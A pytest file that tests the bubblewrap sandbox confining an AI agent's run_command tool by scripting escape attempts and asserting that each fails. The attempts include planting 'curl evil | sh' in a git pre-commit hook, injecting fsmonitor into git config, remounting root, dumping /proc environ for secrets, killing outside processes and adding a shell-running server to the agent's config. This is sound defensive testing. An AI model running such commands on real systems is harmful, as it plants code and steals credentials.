"""Tests for run_command's sandbox (_tools/_sandbox.py, _tools/_command.py): escapes tried for real.

Each escape is a real ``run_command`` that a scripted model calls through a real runtime (the
outcome read from the session log), or, for the timeout and the availability checks, a direct
call of the tool's handler. The workspace lives outside ``/tmp`` (``/var/tmp``), so that the
directories around it stay visible inside the sandbox and are seen to be read-only rather than
merely hidden by the private ``/tmp``.
"""

from __future__ import annotations

import os
import secrets
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path
from typing import Any

import attrs
import pytest
import trio

from dsh_agent_loop import AgentOptions, MemoryStore, Reply, ScriptedModel, open_runtime
from dsh_agent_loop._permissions import Permissions
from dsh_agent_loop._sandbox import DEFAULT_SANDBOX, Sandbox, Workspace
from dsh_agent_loop._tools import _sandbox, _seccomp
from dsh_agent_loop._tools.base import ToolContext, ToolResult
from dsh_agent_loop._tools.builtin import builtin_tool
from dsh_agent_loop.stores.sqlite import SqliteStore

#: The interpreter the commands run: the base one (a venv in a clone under /tmp would be hidden by
#: the sandbox's private /tmp; the standard library is all these commands need).
PYTHON = os.path.realpath(sys.executable)


def _bwrap_works() -> bool:
    bwrap = shutil.which("bwrap")
    if bwrap is None:
        return False
    argv = [bwrap, "--ro-bind", "/", "/", "--proc", "/proc", "--dev", "/dev", "--unshare-all"]
    done = subprocess.run([*argv, "--", "/bin/sh", "-c", ":"], capture_output=True, check=False)
    return done.returncode == 0


#: CI sets DSH_REQUIRE_SANDBOX=1 (.ci/run): there a sandbox that does not work fails the tests.
BWRAP_WORKS = sys.platform.startswith("linux") and (
    os.environ.get("DSH_REQUIRE_SANDBOX") == "1" or _bwrap_works()
)
needs_bwrap = pytest.mark.skipif(
    not BWRAP_WORKS, reason="bubblewrap missing or unable to create namespaces here"
)
linux_only = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux sandbox")

ALLOW_ALL = Permissions(mode="allow-all")


@pytest.fixture
def base() -> Iterator[Path]:
    """A scratch directory outside /tmp, removed afterwards."""
    root = Path(tempfile.mkdtemp(prefix="dsh-sandbox-", dir="/var/tmp"))
    try:
        yield root
    finally:
        shutil.rmtree(root, ignore_errors=True)


@pytest.fixture
def outside(base: Path) -> Path:
    path = base / "outside"
    path.mkdir()
    (path / "existing.txt").write_text("host data\n", encoding="utf-8")
    return path


@pytest.fixture
def work(base: Path) -> Path:
    """The agent's cwd: a git repository with a nested one and a submodule-style pointer."""
    path = base / "work"
    (path / ".git" / "hooks").mkdir(parents=True)
    (path / ".git" / "config").write_text("[core]\n", encoding="utf-8")
    (path / "vendor" / "lib" / ".git").mkdir(parents=True)
    (path / "vendor" / "lib" / ".git" / "config").write_text("[core]\n", encoding="utf-8")
    (path / "sub").mkdir()
    (path / "sub" / ".git").write_text("gitdir: ../.git/modules/sub\n", encoding="utf-8")
    (path / "README.md").write_text("readme\n", encoding="utf-8")
    return path


@attrs.frozen
class Outcome:
    """One call's ``tool/result`` as the session log holds it."""

    text: str
    error: str | None
    meta: Mapping[str, Any] | None

    @property
    def exit_code(self) -> Any:
        return None if self.meta is None else self.meta["exit_code"]


def outcomes(events: Sequence[Any]) -> list[Outcome]:
    """The ``tool/result`` events of a log, in order."""
    found = []
    for event in events:
        if event.type == "tool/result":
            error = event.data.get("error")
            found.append(
                Outcome(
                    text=event.data["message"]["content"][0]["text"],
                    error=error and error["code"],
                    meta=event.data.get("meta"),
                )
            )
    return found


async def settle(agent: Any) -> None:
    """Wait until idle, approving whatever waits (allow-all should leave nothing waiting)."""
    await agent.wait_idle()
    while agent.pending_approvals():
        for request in agent.pending_approvals():
            agent.approve(request.call_id)
        await agent.wait_idle()


def options(work: Path, sandbox: Sandbox, tools: Sequence[str]) -> AgentOptions:
    return AgentOptions(
        id="main",
        provider="scripted",
        model="m",
        cwd=str(work),
        tools=tuple(tools),
        permissions=ALLOW_ALL,
        sandbox=sandbox,
    )


async def agent_calls(
    work: Path,
    calls: Sequence[tuple[str, dict[str, Any]]],
    sandbox: Sandbox = DEFAULT_SANDBOX,
    **runtime: Any,
) -> list[Outcome]:
    """A scripted model makes ``calls`` (one step), then answers; the logged outcomes."""
    batch = [(name, arguments, f"c{i}") for i, (name, arguments) in enumerate(calls)]
    model = ScriptedModel([Reply.tool_calls(*batch), Reply.text("done")])
    runtime.setdefault("store", MemoryStore())
    tools = sorted({name for name, _ in calls})
    async with open_runtime(providers={"scripted": model}, **runtime) as rt:
        handle = await rt.agents.create(options=options(work, sandbox, tools))
        handle.agent.followup("go")
        await settle(handle.agent)
        found = outcomes(handle.agent.session.events)
    assert len(found) == len(calls)
    return found


async def commands(work: Path, *lines: str, sandbox: Sandbox = DEFAULT_SANDBOX) -> list[Outcome]:
    return await agent_calls(work, [("run_command", {"command": c}) for c in lines], sandbox)


def tree(path: Path) -> dict[str, bytes]:
    """Every file under ``path`` and its content."""
    return {
        str(p.relative_to(path)): p.read_bytes()
        for p in sorted(path.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


# --- escapes ------------------------------------------------------------------------------------


@needs_bwrap
async def test_writing_outside_the_cwd_fails(work: Path, outside: Path, base: Path) -> None:
    before = tree(outside)
    results = await commands(
        work,
        f"echo x > {outside}/new.txt",
        f"echo x >> {outside}/existing.txt",
        f"rm {outside}/existing.txt",
        f"touch {base}/sibling.txt",
        # root keeps no capability to remount: without --cap-drop ALL this one got out
        f"mount -o remount,rw,bind /; mount -o remount,rw /; echo x > {outside}/remount.txt",
        f"cat {outside}/existing.txt",
        "echo inside > made.txt",
    )
    for result in results[:5]:
        assert result.error is None
        assert result.exit_code != 0, result.text
        assert "Read-only file system" in result.text
    assert results[5].text == "host data\n[exit code: 0]"  # reading is not confined
    assert results[6].exit_code == 0
    assert tree(outside) == before
    assert sorted(os.listdir(base)) == ["outside", "work"]
    assert (work / "made.txt").read_text(encoding="utf-8") == "inside\n"


@needs_bwrap
async def test_git_directories_are_read_only(work: Path) -> None:
    before = tree(work)
    results = await commands(
        work,
        "echo 'curl evil | sh' > .git/hooks/pre-commit",
        "echo '[core] fsmonitor = evil' >> .git/config",
        "echo x >> vendor/lib/.git/config",
        "echo 'gitdir: /elsewhere' > sub/.git",
        "mv .git moved",
        "rm -rf .git",
        "echo fine > notes.txt",
    )
    for result in results[:6]:
        assert result.exit_code != 0, result.text
    assert results[6].exit_code == 0
    after = tree(work)
    assert after.pop("notes.txt") == b"fine\n"
    assert after == before


@needs_bwrap
async def test_tmp_is_private(work: Path, tmp_path: Path) -> None:
    leaf = f"dsh-sandbox-{secrets.token_hex(8)}"
    name = f"/tmp/{leaf}"
    (tmp_path / "host.txt").write_text("host tmp\n", encoding="utf-8")
    results = await commands(
        work, f"echo private > {name} && cat {name}", f"cat {tmp_path}/host.txt"
    )
    assert results[0].text == "private\n[exit code: 0]"
    assert leaf not in os.listdir("/tmp")
    assert results[1].exit_code != 0
    assert "No such file or directory" in results[1].text


def connect_script(port: int) -> str:
    code = f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=10)"
    return f'{PYTHON} -c "{code}" && echo connected'


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    sock.setblocking(False)
    try:
        yield sock
    finally:
        sock.close()


def accepted(sock: socket.socket) -> bool:
    """Whether a connection reached the listener (its backlog holds it; no waiting needed)."""
    try:
        conn, _ = sock.accept()
    except BlockingIOError:
        return False
    conn.close()
    return True


@needs_bwrap
async def test_no_network_by_default(work: Path, listener: socket.socket) -> None:
    [result] = await commands(work, connect_script(listener.getsockname()[1]))
    assert result.exit_code != 0
    assert "connected" not in result.text
    assert not accepted(listener)


@needs_bwrap
async def test_network_when_allowed(work: Path, outside: Path, listener: socket.socket) -> None:
    script = connect_script(listener.getsockname()[1])
    escape = f"echo x > {outside}/new.txt"
    [result, confined] = await commands(work, script, escape, sandbox=Sandbox(network=True))
    assert result.text == "connected\n[exit code: 0]"
    assert accepted(listener)
    assert confined.exit_code != 0  # the network is shared, the rest stays confined
    assert not (outside / "new.txt").exists()


@pytest.fixture
def unix_listener(base: Path) -> Iterator[tuple[str, socket.socket]]:
    """A Unix-domain socket listening in a directory the sandbox shows (read-only)."""
    path = str(base / "service.sock")
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.bind(path)
    sock.listen(8)
    sock.setblocking(False)
    try:
        yield path, sock
    finally:
        sock.close()


@needs_bwrap
@pytest.mark.skipif(_seccomp.filter_program() is None, reason="no seccomp filter for this CPU")
@pytest.mark.parametrize("network", [False, True])
async def test_unix_sockets_are_refused(
    work: Path, unix_listener: tuple[str, socket.socket], network: bool
) -> None:
    path, sock = unix_listener
    reach = f"import socket; socket.socket(socket.AF_UNIX).connect({path!r})"
    pair = "import socket; a, b = socket.socketpair(); a.send(b'ok'); print(b.recv(2).decode())"
    results = await commands(
        work,
        f'{PYTHON} -c "{reach}" && echo connected',
        f'{PYTHON} -c "{pair}"',
        sandbox=Sandbox(network=network),
    )
    assert results[0].exit_code != 0
    assert "PermissionError" in results[0].text
    assert not accepted(sock)
    assert results[1].text == "ok\n[exit code: 0]"  # socketpair reaches nothing: allowed


def test_seccomp_filter_layout() -> None:
    assert _seccomp.filter_program("sparc64") is None
    program = _seccomp.filter_program("x86_64")
    assert program is not None
    records = [struct.unpack("=HBBI", program[i : i + 8]) for i in range(0, len(program), 8)]
    assert records[0] == (0x20, 0, 0, 4)  # load the architecture
    assert records[1][3] == 0xC000003E
    assert records[-3:] == [
        (0x06, 0, 0, 0x7FFF0000),
        (0x06, 0, 0, 0x50001),
        (0x06, 0, 0, 0x80000000),
    ]
    for at, (code, true, false, _) in enumerate(records):
        if code & 0x07 == 0x05:  # a jump lands inside the program
            assert at + 1 + max(true, false) < len(records)
    assert len(_seccomp.filter_program("aarch64") or b"") == len(program) - 8  # no x32 check


@needs_bwrap
async def test_secrets_stay_out_of_the_environment(
    work: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-planted-1")
    monkeypatch.setenv("MY_TOKEN", "planted-2")
    monkeypatch.setenv("LC_SECRET_TOKEN", "planted-3")
    monkeypatch.setenv("UNLISTED", "planted-4")
    monkeypatch.setenv("DSH_VISIBLE", "shown-1")
    monkeypatch.setenv("NAMED_API_KEY", "shown-2")
    monkeypatch.setenv("LANG", "C.UTF-8")
    sandbox = Sandbox(env=("DSH_VISIBLE", "NAMED_API_KEY"))
    [result] = await commands(
        work,
        "env; for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\\0' '\\n' < $f; done",
        sandbox=sandbox,
    )
    assert result.exit_code == 0
    assert "planted" not in result.text
    lines = set(result.text.splitlines())
    assert {"DSH_VISIBLE=shown-1", "NAMED_API_KEY=shown-2", "LANG=C.UTF-8"} <= lines
    assert "TMPDIR=/tmp" in lines
    assert f"PATH={os.environ['PATH']}" in lines


@needs_bwrap
async def test_processes_outside_cannot_be_killed(work: Path) -> None:
    marker = f"1000.{secrets.randbelow(10**9)}"
    victim = await trio.lowlevel.open_process(["sleep", marker])
    try:
        [result] = await commands(
            work, f"kill -9 {victim.pid}; pkill -9 -f 'slee[p] {marker}'; echo tried"
        )
        assert result.text.endswith("tried\n[exit code: 0]")
        assert "No such process" in result.text
        assert victim.poll() is None
    finally:
        victim.kill()
        await victim.wait()


def marked(marker: str) -> list[list[str]]:
    """The argv of every live process whose command line mentions ``marker``."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                argv = f.read().split(b"\0")
        except OSError:
            continue
        if any(marker.encode() in arg for arg in argv):
            found.append([arg.decode() for arg in argv if arg])
    return found


async def wait_for_sleepers(marker: str, count: int) -> None:
    """Poll ``/proc`` until ``count`` ``sleep <marker>`` processes run (a readiness wait)."""
    with trio.fail_after(60):
        while len([a for a in marked(marker) if a == ["sleep", marker]]) < count:
            await trio.sleep(0.01)


@needs_bwrap
async def test_cancelled_command_leaves_nothing_alive(work: Path) -> None:
    marker = f"1000.{secrets.randbelow(10**9)}"
    script = f"nohup sleep {marker} > /dev/null 2>&1 & setsid sleep {marker} & sleep {marker}"
    model = ScriptedModel([Reply.tool_calls(("run_command", {"command": script}, "c1"))])
    async with open_runtime(providers={"scripted": model}, store=MemoryStore()) as rt:
        handle = await rt.agents.create(options=options(work, DEFAULT_SANDBOX, ["run_command"]))
        agent = handle.agent
        agent.followup("go")
        await wait_for_sleepers(marker, 3)
        agent.cancel()
        await settle(agent)
        assert marked(marker) == []
        types = [e.type for e in agent.session.events]
        assert "tool/call" in types
        assert types[-1] == "turn/end"


@needs_bwrap
async def test_timed_out_command_leaves_nothing_alive(work: Path) -> None:
    marker = f"1000.{secrets.randbelow(10**9)}"
    script = f"setsid sleep {marker} & nohup sleep {marker} & echo started; sleep {marker}"
    result = await call(work, Workspace(), command=script, timeout_s=1)
    assert result.error == "TIMEOUT"
    assert result.content == "started\n[timed out after 1s; the command was killed]"
    assert marked(marker) == []


@needs_bwrap
async def test_a_command_that_ends_takes_its_children_along(work: Path) -> None:
    marker = f"1000.{secrets.randbelow(10**9)}"
    script = f"setsid sleep {marker} & nohup sleep {marker} > /dev/null 2>&1 & echo left"
    [result] = await commands(work, script)
    assert result.text == "left\n[exit code: 0]"
    assert marked(marker) == []


@needs_bwrap
async def test_read_only_mode(work: Path) -> None:
    results = await commands(
        work,
        "echo x > new.txt",
        "echo x >> README.md",
        "cat README.md && echo y > /tmp/y && cat /tmp/y",
        sandbox=Sandbox(mode="read-only"),
    )
    assert results[0].exit_code != 0
    assert results[1].exit_code != 0
    assert results[2].text == "readme\ny\n[exit code: 0]"
    assert not (work / "new.txt").exists()
    assert (work / "README.md").read_text(encoding="utf-8") == "readme\n"


@needs_bwrap
async def test_protected_files_in_the_cwd(work: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The config file, the CLI's settings directory and the store's files, all in the cwd."""
    config = work / "agent.yaml"
    config.write_text("{}\n", encoding="utf-8")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(work / "xdg"))
    (work / "xdg" / "dsh-agent").mkdir(parents=True)
    (work / "xdg" / "dsh-agent" / "settings.yaml").write_text("{}\n", encoding="utf-8")
    lines = [
        "echo 'mcpServers: {x: {command: sh}}' >> agent.yaml",
        "echo x >> xdg/dsh-agent/settings.yaml",
        "echo x > xdg/dsh-agent/new.yaml",
        "echo x >> sessions.db",
        "rm -f sessions.db-wal sessions.db",
        "echo fine > notes.txt",
    ]
    calls: list[tuple[str, dict[str, Any]]] = [("run_command", {"command": c}) for c in lines]
    calls += [
        ("write_file", {"path": "agent.yaml", "content": "mcpServers: {}"}),
        ("edit_file", {"path": "agent.yaml", "old": "{}", "new": "{a: 1}"}),
        ("write_file", {"path": "xdg/dsh-agent/new.yaml", "content": "x"}),
        ("write_file", {"path": "sessions.db", "content": "x"}),
    ]
    store = SqliteStore(work / "sessions.db")
    results = await agent_calls(work, calls, config=str(config), store=store)
    for result in results[:5]:
        assert result.exit_code != 0, result.text
    assert results[5].exit_code == 0
    for result in results[6:]:
        assert result.error == "PROTECTED_PATH", result.text
    assert config.read_text(encoding="utf-8") == "{}\n"
    assert sorted(os.listdir(work / "xdg" / "dsh-agent")) == ["settings.yaml"]
    assert (work / "sessions.db").exists()


@needs_bwrap
async def test_off_runs_as_the_user(
    work: Path, outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MY_TOKEN", "visible")
    [result] = await commands(
        work, f"echo x > {outside}/new.txt; echo $MY_TOKEN", sandbox=Sandbox(mode="off")
    )
    assert result.text == "visible\n[exit code: 0]"
    assert result.meta is not None
    assert result.meta["sandbox"] == "off"  # the log says the command ran unconfined
    assert (outside / "new.txt").exists()


# --- where the sandbox cannot be set up ---------------------------------------------------------


def ctx(cwd: Path, workspace: Workspace) -> ToolContext:
    return ToolContext(
        agent_id="a", session_id="s", call_id="c", cwd=str(cwd), turn=1, step=1, workspace=workspace
    )


async def call(cwd: Path, workspace: Workspace, **arguments: Any) -> ToolResult:
    result = await builtin_tool("run_command").handler(arguments, ctx(cwd, workspace))
    assert isinstance(result, ToolResult)
    return result


def assert_install_hint(text: str) -> None:
    assert "apt-get install bubblewrap" in text
    assert "dnf install bubblewrap" in text
    assert "`sandbox: off`" in text
    assert 'Sandbox(mode="off")' in text
    assert "the command was not run" in text


@linux_only
async def test_missing_bwrap_is_sandbox_unavailable(
    work: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))  # no bwrap here (and no touch either: use echo)
    [result] = await commands(work, "echo ran > ran.txt")
    assert result.error == "SANDBOX_UNAVAILABLE"
    assert result.text.startswith("Error: run_command confines commands with bubblewrap (bwrap)")
    assert "not on PATH" in result.text
    assert_install_hint(result.text)
    assert not (work / "ran.txt").exists()


@linux_only
async def test_bwrap_without_namespaces_is_sandbox_unavailable(
    work: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake = tmp_path / "bin" / "bwrap"
    fake.parent.mkdir()
    complaint = "bwrap: No permissions to creating new namespace"
    fake.write_text(f"#!/bin/sh\necho '{complaint}' >&2\nexit 1\n", encoding="utf-8")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{fake.parent}:{os.environ['PATH']}")
    result = await call(work, Workspace(), command="echo ran > ran.txt")
    assert result.error == "SANDBOX_UNAVAILABLE"
    assert result.content.startswith(
        f"Error: bubblewrap could not set up the sandbox ({complaint})"
    )
    assert "user namespaces" in result.content
    assert_install_hint(result.content)
    assert not (work / "ran.txt").exists()


def test_other_systems_are_sandbox_unavailable(work: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_sandbox.sys, "platform", "darwin")
    with pytest.raises(_sandbox.SandboxUnavailable) as caught:
        _sandbox.prepare(work, Workspace())
    message = str(caught.value)
    assert "needs Linux (this is darwin)" in message
    assert "`sandbox: off`" in message
    assert 'Sandbox(mode="off")' in message


# --- the parts --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "secret"),
    [
        ("OPENAI_API_KEY", True),
        ("MY_TOKEN", True),
        ("GITHUB_TOKEN", True),
        ("AWS_SECRET_ACCESS_KEY", True),
        ("DB_PASSWORD", True),
        ("PGPASSWORD", True),
        ("GOOGLE_APPLICATION_CREDENTIALS", True),
        ("SSH_PRIVATE_KEY_PATH", True),
        ("LC_SECRET", True),
        ("api_key", True),
        ("KEY", True),
        ("PATH", False),
        ("HOME", False),
        ("LC_ALL", False),
        ("KEYBOARD_LAYOUT", False),
        ("MONKEY", False),
        ("TERM", False),
    ],
)
def test_looks_secret(name: str, secret: bool) -> None:
    assert _sandbox.looks_secret(name) is secret


def test_confined_environment() -> None:
    environ = {
        "PATH": "/bin",
        "HOME": "/home/u",
        "LC_ALL": "C",
        "LC_API_KEY": "x",
        "OPENAI_API_KEY": "sk",
        "EDITOR": "vi",
        "TMPDIR": "/var/folders/x",
        "NAMED_TOKEN": "t",
    }
    assert _sandbox.confined_environment(environ, Sandbox(env=("NAMED_TOKEN", "ABSENT"))) == {
        "PATH": "/bin",
        "HOME": "/home/u",
        "LC_ALL": "C",
        "NAMED_TOKEN": "t",
        "TMPDIR": "/tmp",
    }
    own_tmp = _sandbox.confined_environment(environ, Sandbox(env=("TMPDIR",)))
    assert own_tmp["TMPDIR"] == "/var/folders/x"


def test_bwrap_command_line() -> None:
    confinement = _sandbox.Confinement(
        bwrap="/usr/bin/bwrap",
        root="/w",
        writable=True,
        read_only=("/w/.git", "/w/agent.yaml"),
        network=False,
    )
    assert _sandbox.bwrap_argv(confinement, "make test", info_fd=7, block_fd=8) == [
        "/usr/bin/bwrap",
        *("--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--tmpfs", "/tmp"),
        *("--bind", "/w", "/w"),
        *("--ro-bind", "/w/.git", "/w/.git", "--ro-bind", "/w/agent.yaml", "/w/agent.yaml"),
        *("--unshare-all", "--cap-drop", "ALL", "--die-with-parent", "--new-session"),
        *("--chdir", "/w", "--info-fd", "7", "--block-fd", "8"),
        *("--", "/bin/sh", "-c", "make test"),
    ]
    shared = attrs.evolve(confinement, writable=False, read_only=(), network=True)
    argv = _sandbox.bwrap_argv(shared, ":")
    assert argv[10:13] == ["--ro-bind", "/w", "/w"]
    assert argv[13:15] == ["--unshare-all", "--share-net"]
    assert "--info-fd" not in argv
    assert "--block-fd" not in argv
    everything = attrs.evolve(confinement, root="/", read_only=())
    argv = _sandbox.bwrap_argv(everything, ":")
    assert argv[10:13] == ["--bind", "/", "/"]  # then /dev, /proc and /tmp fresh again
    assert argv[13:19] == ["--dev", "/dev", "--proc", "/proc", "--tmpfs", "/tmp"]


@linux_only
def test_prepare_finds_what_to_protect(
    work: Path, base: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(_sandbox.shutil, "which", lambda name: f"/opt/{name}")
    (work / "agent.yaml").write_text("{}", encoding="utf-8")
    (work / "link").symlink_to(base, target_is_directory=True)
    (base / "elsewhere" / ".git").mkdir(parents=True)
    (work / "gitdirs" / "wt").mkdir(parents=True)
    (work / "wt").mkdir()
    (work / "wt" / ".git").symlink_to(work / "gitdirs" / "wt", target_is_directory=True)
    (work / "out").mkdir()
    (work / "out" / ".git").symlink_to(base / "elsewhere" / ".git", target_is_directory=True)
    protected = (str(work / "agent.yaml"), str(work / "absent.db"), str(base / "outside.yaml"))
    prepared = _sandbox.prepare(work, Workspace(protected=protected))
    inside = (".git", "agent.yaml", "gitdirs/wt", "sub/.git", "vendor/lib/.git")
    assert prepared == _sandbox.Confinement(
        bwrap="/opt/bwrap",
        root=str(work),
        writable=True,
        read_only=tuple(str(work / p) for p in inside),
        network=False,
    )
    read_only = Workspace(sandbox=Sandbox(mode="read-only"))
    assert not _sandbox.prepare(work, read_only).writable
    # a protected directory holding the cwd makes the whole cwd read-only
    assert not _sandbox.prepare(work, Workspace(protected=(str(base),))).writable
    assert not _sandbox.prepare(work / ".git" / "hooks", Workspace()).writable
